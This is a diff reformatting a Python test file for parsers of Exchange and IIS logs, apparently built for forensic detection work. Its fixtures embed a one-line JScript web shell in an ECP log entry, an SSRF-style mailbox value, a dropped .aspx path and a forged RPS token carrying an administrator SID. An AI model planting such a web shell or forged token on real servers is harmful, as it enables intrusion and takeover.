@@ -29,7 +29,8 @@ def test_w3c_fields_can_change_mid_file() -> None:
         "#Software: Microsoft Internet Information Services 10.0\r\n"
         "#Fields: time c-ip cs-method cs-uri-stem sc-status s-computername\r\n"
         "#Date: 2021-03-04 00:00:00\r\n"
-        "07:01:02 198.51.100.9 POST /ecp/y.js 200 EX01\r\n")
+        "07:01:02 198.51.100.9 POST /ecp/y.js 200 EX01\r\n"
+    )
     recs, log = records(W3CFormat, text)
     assert [r.get("cs-uri-stem") for r in recs] == ["/a", "/ecp/y.js"]
     assert recs[1].get("c-ip") == "198.51.100.9" and recs[1].get("s-computername") == "EX01"
@@ -70,8 +71,9 @@ def test_httpproxy_fields_directive_and_quoting() -> None:
 
 def test_httpproxy_bare_header_and_other_column_order() -> None:
     fields = ["DateTime", "HttpStatus", "RequestId", "AnchorMailbox"]
-    text = httpproxy_log([f"2021-03-03T01:02:03.004Z,241,{rid(5)},ServerInfo~a]@x/ecp/"], fields=fields,
-                         bare_header=True)
+    text = httpproxy_log(
+        [f"2021-03-03T01:02:03.004Z,241,{rid(5)},ServerInfo~a]@x/ecp/"], fields=fields, bare_header=True
+    )
     recs, _ = records(HttpProxyFormat, text)
     assert recs[0].get("AnchorMailbox") == "ServerInfo~a]@x/ecp/" and recs[0].get("HttpStatus") == "241"
     assert recs[0].timestamp == datetime(2021, 3, 3, 1, 2, 3, 4000, tzinfo=UTC)
@@ -104,8 +106,8 @@ def test_rps_http_without_header_uses_the_fixed_order_quietly() -> None:
 
 ECP_LINE = (
     '2021-03-03T10:12:13.123Z,EX01,ECP.Request,"S:TIME=120;S:SID=S-1-5-21-1-2-3-500;'
-    "'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">"
-    "function Page_Load(){eval(Request[\"\"klk123456\"\"],\"\"unsafe\"\");}</script>''.Identity=''3f1a''';"
+    '\'S:CMD=Set-OabVirtualDirectory.ExternalUrl=\'\'http://f/<script language=""JScript"" runat=""server"">'
+    'function Page_Load(){eval(Request[""klk123456""],""unsafe"");}</script>\'\'.Identity=\'\'3f1a\'\'\';'
     'S:REQID=abc;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:BLD=15.1.2176.2"'
 )
 
@@ -129,9 +131,11 @@ def test_ecp_pairs_tolerate_unbalanced_quotes() -> None:
 
 
 def test_oab_lines_keep_the_message_and_find_the_time() -> None:
-    text = ("2021-03-03T11:00:00.000Z Info Download failed and temporary file "
-            "'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx' needs to be removed\r\n"
-            "3/4/2021 1:02:03 PM second line\r\n")
+    text = (
+        "2021-03-03T11:00:00.000Z Info Download failed and temporary file "
+        "'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx' needs to be removed\r\n"
+        "3/4/2021 1:02:03 PM second line\r\n"
+    )
     recs, _ = records(OabGeneratorFormat, text)
     assert recs[0].get("message").startswith("2021-03-03T11") and recs[0].timestamp.hour == 11
     assert recs[1].timestamp == datetime(2021, 3, 4, 13, 2, 3, tzinfo=UTC)
@@ -155,11 +159,23 @@ def test_url_helpers() -> None:
 
 def rps_cat(upn: str, sid: str) -> str:
     """A token in the published structure: V, T, C, A, L, U, G tags with one-byte lengths."""
+
     def tag(t: bytes, s: str) -> bytes:
         return t + bytes([len(s)]) + s.encode()
-    raw = (b"V\x01\x00" + tag(b"T", "Windows") + b"C\x00" + tag(b"A", "Kerberos") + tag(b"L", upn)
-           + tag(b"U", sid) + b"G\x01\x00\x00\x00\x07\x00\x00\x00" + tag(b"", "S-1-5-32-544")[0:0]
-           + bytes([12]) + b"S-1-5-32-544" + b"E\x00\x00\x00\x00")
+
+    raw = (
+        b"V\x01\x00"
+        + tag(b"T", "Windows")
+        + b"C\x00"
+        + tag(b"A", "Kerberos")
+        + tag(b"L", upn)
+        + tag(b"U", sid)
+        + b"G\x01\x00\x00\x00\x07\x00\x00\x00"
+        + tag(b"", "S-1-5-32-544")[0:0]
+        + bytes([12])
+        + b"S-1-5-32-544"
+        + b"E\x00\x00\x00\x00"
+    )
     return base64.b64encode(raw).decode()
 
 
